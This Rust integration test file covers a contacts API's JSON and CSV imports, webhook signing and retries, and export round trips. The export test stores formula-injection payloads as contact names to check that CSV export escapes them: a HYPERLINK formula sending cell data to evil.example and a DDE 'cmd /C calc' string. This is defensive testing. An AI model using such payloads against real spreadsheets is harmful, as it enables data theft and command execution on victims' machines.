//! Imports (CONTRACT.md "Data in and out", Imports and CSV): the JSON
//! Imports API, CSV imports, statuses, webhooks, and export -> import.

use std::fmt::Write as _;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::time::{Duration, Instant};

use hmac::{Hmac, Mac};
use rocket::http::{ContentType, Header, Method};
use serde_json::{json, Value};
use sha2::Sha256;

use crate::helpers::{Answer, TestApp};

/// Waits (up to a minute) until the import behind `accepted` is final;
/// its status object.
pub fn finished(app: &TestApp, accepted: &Answer) -> Value {
    assert_eq!(accepted.status.code, 202, "{}", accepted.body);
    let location = accepted.location.clone().expect("Location");
    wait_for(app, &location, |status| {
        !matches!(status["status"].as_str(), Some("PENDING" | "PROCESSING"))
    })
}

/// Polls `uri` until `done` holds for its answer (at most a minute).
fn wait_for(app: &TestApp, uri: &str, done: impl Fn(&Value) -> bool) -> Value {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let answer = app.get(uri);
        assert_eq!(answer.status.code, 200, "{}", answer.body);
        if done(&answer.body) {
            return answer.body;
        }
        assert!(Instant::now() < deadline, "still waiting: {}", answer.body);
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn csv_import(app: &TestApp, query: &str, csv: &str) -> Answer {
    app.send_raw(
        Method::Post,
        &format!("/v1/imports/csv{query}"),
        ContentType::CSV,
        csv.as_bytes().to_vec(),
    )
}

/// Every contact of the app's organization, by phone number.
fn contacts_by_phone(app: &TestApp, key: &str) -> Vec<Value> {
    let mut all = Vec::new();
    let mut uri = String::from("/v1/contacts?limit=100&sort=createdAt");
    loop {
        let page = app.send(Method::Get, &uri, Some(key), None);
        all.extend(page.body["data"].as_array().unwrap().iter().cloned());
        match page.body["nextCursor"].as_str() {
            Some(cursor) => uri = format!("/v1/contacts?limit=100&sort=createdAt&cursor={cursor}"),
            None => break,
        }
    }
    all.sort_by(|a, b| a["phoneNumber"].as_str().cmp(&b["phoneNumber"].as_str()));
    all
}

#[test]
fn json_rows_are_accepted_202_then_applied_in_the_background() {
    let app = TestApp::spawn();
    app.create_contact("Old Name", "+14155550000");
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"contacts": [
            {"name": "Priya", "phoneNumber": "+91 98765-43210", "language": "HI-in",
             "metadata": {"city": "Pune", "tier": 1}, "tier": 2, "vip": true},
            {"name": "Bad", "phoneNumber": "12345"},
            {"name": "New Name", "phoneNumber": "+14155550000"},
            "not an object",
        ]}),
    );
    assert_eq!(accepted.status.code, 202, "{}", accepted.body);
    let id = accepted.body["importId"].as_str().unwrap().to_string();
    assert!(id.starts_with("imp_"));
    assert_eq!(
        accepted.location.as_deref(),
        Some(format!("/v1/imports/{id}/status").as_str())
    );
    assert_eq!(accepted.body["total"], 4);
    assert!(matches!(
        accepted.body["status"].as_str(),
        Some("PENDING" | "PROCESSING" | "COMPLETED_WITH_ERRORS")
    ));

    let status = finished(&app, &accepted);
    assert_eq!(status["id"], id.as_str());
    assert_eq!(status["status"], "COMPLETED_WITH_ERRORS");
    for (field, value) in [
        ("total", 4),
        ("processed", 4),
        ("created", 1),
        ("updated", 1),
        ("failed", 2),
        ("errorCount", 2),
    ] {
        assert_eq!(status[field], value, "{field}: {status}");
    }
    let errors = status["errors"].as_array().unwrap();
    assert_eq!(errors.len(), 2);
    assert_eq!(errors[0]["index"], 1);
    assert_eq!(errors[0]["field"], "phoneNumber");
    assert!(errors[0]["reason"].as_str().unwrap().contains("E.164"));
    assert_eq!(errors[1]["index"], 3);
    assert_eq!(status["organizationId"], app.org_id.as_str());
    assert_eq!(status["audienceId"], Value::Null);
    assert_eq!(status["webhookUrl"], Value::Null);
    for time in ["createdAt", "startedAt", "completedAt"] {
        assert!(status[time].as_str().unwrap().ends_with('Z'), "{time}");
    }

    let contacts = contacts_by_phone(&app, &app.key);
    assert_eq!(contacts.len(), 2);
    assert_eq!(contacts[0]["name"], "New Name");
    assert_eq!(contacts[0]["metadata"], json!({}));
    assert_eq!(contacts[1]["phoneNumber"], "+919876543210");
    assert_eq!(contacts[1]["language"], "hi-IN");
    assert_eq!(
        contacts[1]["metadata"],
        json!({"city": "Pune", "tier": 2, "vip": true})
    );
}

#[test]
fn a_row_without_metadata_keys_keeps_the_stored_metadata() {
    let app = TestApp::spawn();
    app.post(
        "/v1/contacts",
        &json!({"name": "A", "phoneNumber": "+14155550001", "metadata": {"keep": 1}}),
    );
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"contacts": [{"name": "A2", "phoneNumber": "+14155550001"}]}),
    );
    let status = finished(&app, &accepted);
    assert_eq!(
        (status["status"].as_str(), status["updated"].as_i64()),
        (Some("COMPLETED"), Some(1))
    );
    let contact = &contacts_by_phone(&app, &app.key)[0];
    assert_eq!(contact["name"], "A2");
    assert_eq!(contact["metadata"], json!({"keep": 1}));
}

#[test]
fn an_import_whose_every_row_fails_is_failed() {
    let app = TestApp::spawn();
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"contacts": [{"name": "", "phoneNumber": "+14155550001"}, {"phoneNumber": "x"}]}),
    );
    let status = finished(&app, &accepted);
    assert_eq!(status["status"], "FAILED");
    assert_eq!(
        (status["failed"].as_i64(), status["created"].as_i64()),
        (Some(2), Some(0))
    );
    assert_eq!(status["errors"][0]["field"], "name");
}

#[test]
fn the_request_is_checked_for_its_shape_before_answering() {
    let app = TestApp::spawn();
    app.post("/v1/imports/api/bulk", &json!({"contacts": []}))
        .assert_error(422, "validation_failed");
    app.post("/v1/imports/api/bulk", &json!({}))
        .assert_error(422, "validation_failed");
    let rows: Vec<Value> = (0..10_001).map(|_| json!({})).collect();
    app.post("/v1/imports/api/bulk", &json!({ "contacts": rows }))
        .assert_error(413, "payload_too_large");
    for url in [
        "ftp://example.com/x",
        "example.com/hook",
        "/hooks",
        "http://",
    ] {
        let answer = app.post(
            "/v1/imports/api/bulk",
            &json!({"contacts": [{}], "webhookUrl": url}),
        );
        answer.assert_error(422, "validation_failed");
        assert_eq!(answer.detail_fields(), ["webhookUrl"], "{url}");
    }
    let answer = app.post(
        "/v1/imports/api/bulk",
        &json!({"contacts": [{}], "audienceId": "aud_nope"}),
    );
    answer.assert_error(404, "not_found");
    let answer = app.post(
        "/v1/imports/api/bulk",
        &json!({"contacts": [{}], "typo": 1}),
    );
    assert_eq!(answer.detail_fields(), ["typo"]);
    app.send_raw(
        Method::Post,
        "/v1/imports/api/bulk",
        ContentType::JSON,
        b"{not json".to_vec(),
    )
    .assert_error(400, "bad_request");
    // Nothing was queued by any of them.
    assert_eq!(app.get("/v1/imports").body["total"], 0);
    let no_key = app.send(
        Method::Post,
        "/v1/imports/api/bulk",
        None,
        Some("{}".into()),
    );
    no_key.assert_error(401, "unauthorized");
}

#[test]
fn rows_join_the_audience_and_another_organization_sees_nothing() {
    let app = TestApp::spawn();
    let audience = app.post("/v1/audiences", &json!({"name": "Imported"})).body;
    let audience_id = audience["id"].as_str().unwrap();
    app.create_contact("Known", "+14155550001");
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"audienceId": audience_id, "contacts": [
            {"name": "Known", "phoneNumber": "+14155550001"},
            {"name": "New", "phoneNumber": "+14155550002"},
            {"name": "Bad", "phoneNumber": "nope"},
        ]}),
    );
    let status = finished(&app, &accepted);
    assert_eq!(status["audienceId"], audience_id);
    let audience = app.get(&format!("/v1/audiences/{audience_id}")).body;
    assert_eq!(audience["contactCount"], 2);

    let (_, other_key) = app.other_org();
    let location = accepted.location.unwrap();
    app.send(Method::Get, &location, Some(&other_key), None)
        .assert_error(404, "not_found");
    let theirs = app.send(Method::Get, "/v1/imports", Some(&other_key), None);
    assert_eq!(theirs.body["total"], 0);
    // Their audience is not ours to import into.
    let answer = app.send(
        Method::Post,
        "/v1/imports/api/bulk",
        Some(&other_key),
        Some(json!({"audienceId": audience_id, "contacts": [{}]}).to_string()),
    );
    answer.assert_error(404, "not_found");
}

#[test]
fn the_list_is_paged_newest_first_without_errors() {
    let app = TestApp::spawn();
    let mut ids = Vec::new();
    for i in 0..3 {
        let accepted = app.post(
            "/v1/imports/api/bulk",
            &json!({"contacts": [{"name": "N", "phoneNumber": format!("+1415555000{i}")}]}),
        );
        finished(&app, &accepted);
        ids.push(accepted.body["importId"].as_str().unwrap().to_string());
    }
    let page = app.get("/v1/imports?limit=2").body;
    assert_eq!(
        (
            page["total"].as_i64(),
            page["page"].as_i64(),
            page["limit"].as_i64(),
            page["totalPages"].as_i64()
        ),
        (Some(3), Some(1), Some(2), Some(2))
    );
    let listed: Vec<&str> = page["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap())
        .collect();
    assert_eq!(listed, [ids[2].as_str(), ids[1].as_str()]);
    assert!(page["data"][0].get("errors").is_none());
    assert_eq!(page["data"][0]["status"], "COMPLETED");
    app.get("/v1/imports?limit=0")
        .assert_error(422, "validation_failed");
    app.get("/v1/imports?what=1")
        .assert_error(400, "bad_request");
}

#[test]
fn thousands_of_rows_apply_in_chunks_exactly_once() {
    let app = TestApp::spawn();
    let rows: Vec<Value> = (0..2_500)
        .map(|i| json!({"name": format!("N{i}"), "phoneNumber": format!("+1415556{i:04}")}))
        .collect();
    let accepted = app.post("/v1/imports/api/bulk", &json!({ "contacts": rows }));
    let status = finished(&app, &accepted);
    assert_eq!(status["status"], "COMPLETED");
    assert_eq!(
        (status["created"].as_i64(), status["updated"].as_i64()),
        (Some(2_500), Some(0))
    );
    assert_eq!(app.get("/v1/contacts").body["total"], 2_500);
    let chunks: i64 = app
        .sqlite()
        .query_row("SELECT count(*) FROM import_chunks", [], |r| r.get(0))
        .unwrap();
    assert_eq!(chunks, 0);
}

#[test]
fn an_idempotency_key_queues_one_import() {
    let app = TestApp::spawn();
    let body = json!({"contacts": [{"name": "A", "phoneNumber": "+14155550001"}]});
    let first = app.post_with(
        "/v1/imports/api/bulk",
        &body,
        &[("Idempotency-Key", "imp-1")],
    );
    let again = app.post_with(
        "/v1/imports/api/bulk",
        &body,
        &[("Idempotency-Key", "imp-1")],
    );
    assert_eq!(again.status.code, 202);
    assert_eq!(again.header("idempotent-replayed"), Some("true"));
    assert_eq!(again.body["importId"], first.body["importId"]);
    assert_eq!(again.location, first.location);
    finished(&app, &first);
    assert_eq!(app.get("/v1/imports").body["total"], 1);
}

#[test]
fn csv_headers_match_loosely_and_every_other_column_is_metadata() {
    let app = TestApp::spawn();
    let csv = "\u{feff}Full Name,Name,PHONE,Language,City,Notes,\r\n\
               x,\"Sharma, \"\"Priya\"\"\",+91 98765 43210,hi-in,Mumbai,,\r\n\
               x,Ravi,+919123456789,,Delhi,\"two\nlines\",\r\n";
    let accepted = csv_import(&app, "", csv);
    let status = finished(&app, &accepted);
    assert_eq!(status["status"], "COMPLETED", "{status}");
    let contacts = contacts_by_phone(&app, &app.key);
    assert_eq!(contacts[0]["name"], "Ravi");
    assert_eq!(contacts[0]["language"], Value::Null);
    assert_eq!(
        contacts[0]["metadata"],
        json!({"Full Name": "x", "City": "Delhi", "Notes": "two\nlines"})
    );
    assert_eq!(contacts[1]["name"], "Sharma, \"Priya\"");
    assert_eq!(contacts[1]["phoneNumber"], "+919876543210");
    assert_eq!(contacts[1]["language"], "hi-IN");
    assert_eq!(
        contacts[1]["metadata"],
        json!({"Full Name": "x", "City": "Mumbai"})
    );
}

#[test]
fn csv_that_cannot_be_read_is_422_naming_the_column_or_line() {
    let app = TestApp::spawn();
    let answer = csv_import(&app, "", "name,email\nA,a@example.com\n");
    answer.assert_error(422, "validation_failed");
    assert_eq!(answer.detail_fields(), ["phoneNumber"]);
    let answer = csv_import(&app, "", "phone\n+14155550001\n");
    assert_eq!(answer.detail_fields(), ["name"]);
    let answer = csv_import(&app, "", "name,phone\nA,+14155550001\nB,+1,extra\n");
    answer.assert_error(422, "validation_failed");
    assert_eq!(answer.body["line"], 3);
    assert!(answer.body["message"].as_str().unwrap().contains("line 3"));
    let answer = app.send_raw(
        Method::Post,
        "/v1/imports/csv",
        ContentType::CSV,
        b"name,phone\nA,\xff\n".to_vec(),
    );
    assert_eq!(answer.body["line"], 2, "{}", answer.body);
    csv_import(&app, "", "").assert_error(422, "validation_failed");
    csv_import(&app, "", "name,phone\n").assert_error(422, "validation_failed");
    csv_import(&app, "?audienceId=aud_nope", "name,phone\nA,+14155550001\n")
        .assert_error(404, "not_found");
    let answer = csv_import(&app, "?webhookUrl=nope", "name,phone\nA,+14155550001\n");
    assert_eq!(answer.detail_fields(), ["webhookUrl"]);
    let answer = csv_import(&app, "?audience=x", "name,phone\nA,+14155550001\n");
    answer.assert_error(400, "bad_request");
    assert_eq!(app.get("/v1/imports").body["total"], 0);
}

#[test]
fn a_csv_over_the_file_limit_is_413() {
    let app = TestApp::spawn_with(|figment| figment.merge(("limits.file", "1 KiB")));
    let mut csv = String::from("name,phone\n");
    while csv.len() <= 1024 {
        csv.push_str("Somebody,+14155550001\n");
    }
    csv_import(&app, "", &csv).assert_error(413, "payload_too_large");
    csv_import(&app, "", "name,phone\nA,+14155550001\n");
}

#[test]
fn export_then_import_into_another_organization_reproduces_every_value() {
    let app = TestApp::spawn();
    // The numbers are written as the JSON text they must come back as.
    #[allow(clippy::unreadable_literal)]
    let tricky = [
        json!({"name": "Priya \"P\" Sharma, Jr", "phoneNumber": "+919876543210", "language": "hi-IN",
               "metadata": {"city": "Mumbai", "n": 0.21549671757760558, "big": 123456789012345678901234567890u128,
                            "nested": {"a": [1, "two", null, true]}, "quote": "say \"hi\", ok"}}),
        json!({"name": "தமிழ் செல்வி", "phoneNumber": "+919123456789", "language": "ta-IN"}),
        json!({"name": "Émile 🎉", "phoneNumber": "+33612345678", "metadata": {"line": "a\nb", "empty": ""}}),
        json!({"name": "Zed", "phoneNumber": "+14155550001", "language": null, "metadata": {}}),
        // Formulas to a spreadsheet: escaped in the file, exact once imported.
        json!({"name": "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "phoneNumber": "+14155550002"}),
        json!({"name": "@SUM(1,1)", "phoneNumber": "+14155550003"}),
        json!({"name": "+1+cmd|' /C calc'!A0", "phoneNumber": "+14155550004"}),
        json!({"name": "-2", "phoneNumber": "+14155550005"}),
        json!({"name": "'quoted", "phoneNumber": "+14155550006"}),
    ];
    for contact in &tricky {
        assert_eq!(app.post("/v1/contacts", contact).status.code, 201);
    }
    let original = contacts_by_phone(&app, &app.key);
    // Else the comparison below would compare two empty lists.
    assert_eq!(original.len(), tricky.len());
    for format in ["csv", "ndjson"] {
        let (_, other_key) = app.other_org();
        let exported = app
            .client
            .get(format!("/v1/contacts/export?format={format}"))
            .header(Header::new("x-api-key", app.key.clone()))
            .dispatch()
            .into_string()
            .unwrap();
        if format == "csv" {
            for cell in ["'=HYPERLINK(", "'@SUM(1,1)", "'+1+cmd", "'-2", "''quoted"] {
                assert!(
                    exported
                        .lines()
                        .any(|l| l.contains(&format!(",{cell}"))
                            || l.contains(&format!(",\"{cell}"))),
                    "{cell} not escaped:\n{exported}"
                );
            }
            assert!(
                exported.contains(",+14155550004,"),
                "phone numbers as they are"
            );
        }
        let accepted = if format == "csv" {
            let mut request = app.client.post("/v1/imports/csv");
            request.add_header(Header::new("x-api-key", other_key.clone()));
            request.add_header(ContentType::CSV);
            request.set_body(exported);
            answer_of(request.dispatch())
        } else {
            let rows: Vec<Value> = exported
                .lines()
                .map(|line| {
                    let mut row: Value = serde_json::from_str(line).unwrap();
                    let object = row.as_object_mut().unwrap();
                    for field in ["id", "organizationId", "createdAt", "updatedAt"] {
                        object.remove(field);
                    }
                    row
                })
                .collect();
            app.send(
                Method::Post,
                "/v1/imports/api/bulk",
                Some(&other_key),
                Some(json!({ "contacts": rows }).to_string()),
            )
        };
        assert_eq!(accepted.status.code, 202, "{}", accepted.body);
        let location = accepted.location.unwrap();
        let deadline = Instant::now() + Duration::from_secs(60);
        let status = loop {
            let status = app
                .send(Method::Get, &location, Some(&other_key), None)
                .body;
            if status["status"] != "PENDING" && status["status"] != "PROCESSING" {
                break status;
            }
            assert!(Instant::now() < deadline);
            std::thread::sleep(Duration::from_millis(20));
        };
        assert_eq!(status["status"], "COMPLETED", "{format}: {status}");
        let copied = contacts_by_phone(&app, &other_key);
        assert_eq!(copied.len(), original.len());
        for (a, b) in original.iter().zip(&copied) {
            for field in ["name", "phoneNumber", "language", "metadata"] {
                assert_eq!(a[field], b[field], "{format} {field}");
            }
            // Digit for digit, not just the same parsed value.
            assert_eq!(
                a["metadata"].to_string(),
                b["metadata"].to_string(),
                "{format}"
            );
        }
    }
}

fn answer_of(response: rocket::local::blocking::LocalResponse<'_>) -> Answer {
    let status = response.status();
    let location = response.headers().get_one("Location").map(String::from);
    let body = serde_json::from_str(&response.into_string().unwrap()).unwrap();
    Answer {
        status,
        location,
        headers: Vec::new(),
        body,
    }
}

/// A webhook receiver on a local port: answers each request with the
/// next of `statuses` and hands over (signature header, body).
fn receiver(statuses: Vec<u16>) -> (String, std::sync::mpsc::Receiver<(String, String)>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!(
        "http://127.0.0.1:{}/hooks/contactsd?x=1",
        listener.local_addr().unwrap().port()
    );
    let (sender, received) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for status in statuses {
            let (stream, _) = listener.accept().unwrap();
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request_line = String::new();
            reader.read_line(&mut request_line).unwrap();
            assert!(
                request_line.starts_with("POST /hooks/contactsd?x=1 HTTP/1.1"),
                "{request_line}"
            );
            let (mut length, mut signature, mut content_type) = (0, String::new(), String::new());
            loop {
                let mut line = String::new();
                reader.read_line(&mut line).unwrap();
                let line = line.trim_end();
                if line.is_empty() {
                    break;
                }
                let (name, value) = line.split_once(": ").unwrap();
                match name.to_ascii_lowercase().as_str() {
                    "content-length" => length = value.parse().unwrap(),
                    "x-contactsd-signature" => signature = value.to_string(),
                    "content-type" => content_type = value.to_string(),
                    _ => {}
                }
            }
            assert_eq!(content_type, "application/json");
            let mut body = vec![0; length];
            reader.read_exact(&mut body).unwrap();
            let mut stream = stream;
            write!(
                stream,
                "HTTP/1.1 {status} X\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )
            .unwrap();
            let _ = sender.send((signature, String::from_utf8(body).unwrap()));
        }
    });
    (url, received)
}

#[test]
fn the_webhook_is_signed_retried_and_its_attempts_shown() {
    let app = TestApp::spawn_with(|figment| figment.merge(("webhook_allow_private", true)));
    let (url, received) = receiver(vec![500, 204]);
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"webhookUrl": url, "contacts": [{"name": "A", "phoneNumber": "+14155550001"}]}),
    );
    let location = accepted.location.clone().unwrap();
    let status = wait_for(&app, &location, |s| s["webhook"]["state"] == "delivered");
    let attempts = status["webhook"]["attempts"].as_array().unwrap();
    assert_eq!(attempts.len(), 2, "{status}");
    assert_eq!(attempts[0]["statusCode"], 500);
    assert_eq!(attempts[1]["statusCode"], 204);
    assert_eq!(attempts[1]["error"], Value::Null);

    let secret = contactsd_store::Db::open(&app.db_path)
        .unwrap()
        .webhook_secret(&app.org_id)
        .unwrap();
    assert!(secret.starts_with("whsec_"));
    for _ in 0..2 {
        let (signature, body) = received.recv_timeout(Duration::from_secs(30)).unwrap();
        let (t, v1) = signature
            .strip_prefix("t=")
            .and_then(|rest| rest.split_once(",v1="))
            .unwrap_or_else(|| panic!("{signature}"));
        let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(secret.as_bytes()).unwrap();
        mac.update(format!("{t}.{body}").as_bytes());
        let expected = mac
            .finalize()
            .into_bytes()
            .iter()
            .fold(String::new(), |mut hex, b| {
                let _ = write!(hex, "{b:02x}");
                hex
            });
        assert_eq!(v1, expected);
        let event: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(event["event"], "import.completed");
        assert_eq!(event["data"]["id"], accepted.body["importId"]);
        assert_eq!(event["data"]["status"], "COMPLETED");
        assert_eq!(event["data"]["created"], 1);
        assert!(event["data"].get("errors").is_none());
    }
}

#[test]
fn webhooks_to_private_addresses_are_refused_unless_allowed() {
    let app = TestApp::spawn();
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"webhookUrl": "http://127.0.0.1:9/hook", "contacts": [{"name": "A", "phoneNumber": "+14155550001"}]}),
    );
    let location = accepted.location.clone().unwrap();
    let status = wait_for(&app, &location, |s| {
        s["webhook"]["attempts"]
            .as_array()
            .is_some_and(|a| !a.is_empty())
    });
    assert_eq!(status["status"], "COMPLETED");
    let attempts = status["webhook"]["attempts"].as_array().unwrap();
    assert_eq!(attempts[0]["statusCode"], Value::Null);
    // The same words, and the same retries, as for a name that does not
    // resolve: an attempt does not tell a tenant which internal names exist.
    assert!(
        attempts[0]["error"]
            .as_str()
            .unwrap()
            .contains("has no address to deliver to"),
        "{status}"
    );
    assert_eq!(status["webhook"]["state"], "pending", "{status}");
}

#[test]
fn a_password_in_a_webhook_url_is_never_shown() {
    let app = TestApp::spawn();
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"webhookUrl": "https://hooks:s3cr3t-pw@example.com/in?x=1",
                "contacts": [{"name": "A", "phoneNumber": "+14155550001"}]}),
    );
    assert_eq!(accepted.status.code, 202, "{}", accepted.body);
    let status = app.get(&accepted.location.unwrap()).body;
    assert_eq!(status["webhookUrl"], "https://hooks:***@example.com/in?x=1");
    let listed = app.get("/v1/imports").body;
    assert!(!listed.to_string().contains("s3cr3t-pw"), "{listed}");
}

#[test]
fn a_csv_header_wider_than_100_columns_is_422_before_anything_is_stored() {
    let app = TestApp::spawn();
    let mut header: Vec<String> = vec!["name".into(), "phone".into()];
    header.extend((0..99).map(|i| format!("k{i}")));
    let row = vec![""; header.len()].join(",");
    let refused = csv_import(&app, "", &format!("{}\n{row}\n", header.join(",")));
    assert_eq!(refused.status.code, 422, "{}", refused.body);
    assert!(refused.body["message"]
        .as_str()
        .unwrap()
        .contains("100 columns"));
    assert_eq!(app.get("/v1/imports").body["total"], 0, "nothing stored");
    // A blank line of any width before the header is skipped, not refused.
    let accepted = csv_import(&app, "", ",,\nname,phone\nA,+14155550001\n");
    assert_eq!(accepted.status.code, 202, "{}", accepted.body);
    let status = finished(&app, &accepted);
    assert_eq!(status["created"], 1, "{status}");
}

#[test]
fn metadata_mode_merge_keeps_the_keys_a_row_does_not_name() {
    let app = TestApp::spawn();
    let stored = r#"{"name": "Priya", "phoneNumber": "+919876543210", "metadata": {"city": "Pune", "tier": "gold", "n": 0.21549671757760558}}"#;
    let created = app.send(
        Method::Post,
        "/v1/contacts",
        Some(&app.key),
        Some(stored.to_string()),
    );
    assert_eq!(created.status.code, 201);
    let id = created.body["id"].as_str().unwrap().to_string();
    let merged = app.post(
        "/v1/imports/api/bulk",
        &json!({"metadataMode": "merge", "contacts": [
            {"name": "Priya", "phoneNumber": "+919876543210", "metadata": {"tier": "silver"}, "visits": 3}]}),
    );
    assert_eq!(merged.status.code, 202, "{}", merged.body);
    assert_eq!(finished(&app, &merged)["updated"], 1);
    let contact = app.get(&format!("/v1/contacts/{id}")).body;
    assert_eq!(
        contact["metadata"].to_string(),
        r#"{"city":"Pune","tier":"silver","n":0.21549671757760558,"visits":3}"#
    );
    // CSV: the query parameter; a row without metadata changes nothing.
    let csv = csv_import(
        &app,
        "?metadataMode=merge",
        "name,phone,zone\nPriya,+919876543210,west\n",
    );
    assert_eq!(csv.status.code, 202, "{}", csv.body);
    finished(&app, &csv);
    let contact = app.get(&format!("/v1/contacts/{id}")).body;
    assert_eq!(contact["metadata"]["zone"], "west");
    assert_eq!(contact["metadata"]["city"], "Pune");
    // The default replaces the object whole.
    let replaced = app.post(
        "/v1/imports/api/bulk",
        &json!({"contacts": [{"name": "Priya", "phoneNumber": "+919876543210", "metadata": {"only": true}}]}),
    );
    finished(&app, &replaced);
    let contact = app.get(&format!("/v1/contacts/{id}")).body;
    assert_eq!(contact["metadata"], json!({"only": true}));
    // Any other mode is refused, naming the field.
    let bad = app.post(
        "/v1/imports/api/bulk",
        &json!({"metadataMode": "append", "contacts": [{"name": "A", "phoneNumber": "+14155550001"}]}),
    );
    bad.assert_error(422, "validation_failed");
    assert_eq!(bad.body["details"][0]["field"], "metadataMode");
    csv_import(&app, "?metadataMode=MERGE", "name,phone\nA,+14155550001\n")
        .assert_error(422, "validation_failed");
}

#[test]
fn a_merge_past_the_metadata_limits_fails_that_row_alone() {
    let app = TestApp::spawn();
    let keys: serde_json::Map<String, Value> =
        (0..60).map(|i| (format!("k{i}"), Value::from(i))).collect();
    app.post(
        "/v1/contacts",
        &json!({"name": "Full", "phoneNumber": "+14155550001", "metadata": keys}),
    );
    let more: serde_json::Map<String, Value> =
        (0..10).map(|i| (format!("m{i}"), Value::from(i))).collect();
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"metadataMode": "merge", "contacts": [
            {"name": "Full", "phoneNumber": "+14155550001", "metadata": more},
            {"name": "Other", "phoneNumber": "+14155550002", "metadata": {"a": 1}}]}),
    );
    let status = finished(&app, &accepted);
    assert_eq!(
        (status["created"].clone(), status["failed"].clone()),
        (json!(1), json!(1)),
        "{status}"
    );
    assert_eq!(status["errors"][0]["field"], "metadata", "{status}");
}

/// The hex HMAC-SHA256 of `"<t>.<body>"` under `secret`.
fn hmac_hex(secret: &str, t: &str, body: &str) -> String {
    let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(secret.as_bytes()).unwrap();
    mac.update(format!("{t}.{body}").as_bytes());
    mac.finalize()
        .into_bytes()
        .iter()
        .fold(String::new(), |mut hex, b| {
            let _ = write!(hex, "{b:02x}");
            hex
        })
}

#[test]
fn a_rotated_webhook_secret_signs_beside_the_old_one_for_a_day() {
    let app = TestApp::spawn_with(|figment| figment.merge(("webhook_allow_private", true)));
    let db = contactsd_store::Db::open(&app.db_path).unwrap();
    let first = db.webhook_secret(&app.org_id).unwrap();
    let second = db.rotate_webhook_secret(&app.org_id).unwrap();
    let third = db.rotate_webhook_secret(&app.org_id).unwrap();
    assert!(first != second && second != third && third.starts_with("whsec_"));
    assert_eq!(db.webhook_secret(&app.org_id).unwrap(), third);
    let (url, received) = receiver(vec![204]);
    let accepted = app.post(
        "/v1/imports/api/bulk",
        &json!({"webhookUrl": url, "contacts": [{"name": "A", "phoneNumber": "+14155550001"}]}),
    );
    let location = accepted.location.clone().unwrap();
    wait_for(&app, &location, |s| s["webhook"]["state"] == "delivered");
    let (signature, body) = received.recv_timeout(Duration::from_secs(30)).unwrap();
    let parts: Vec<&str> = signature.split(',').collect();
    let t = parts[0].strip_prefix("t=").unwrap();
    // The new secret first, then the one it replaced; the oldest is gone.
    assert_eq!(
        parts[1..],
        [
            format!("v1={}", hmac_hex(&third, t, &body)),
            format!("v1={}", hmac_hex(&second, t, &body)),
        ]
    );
}
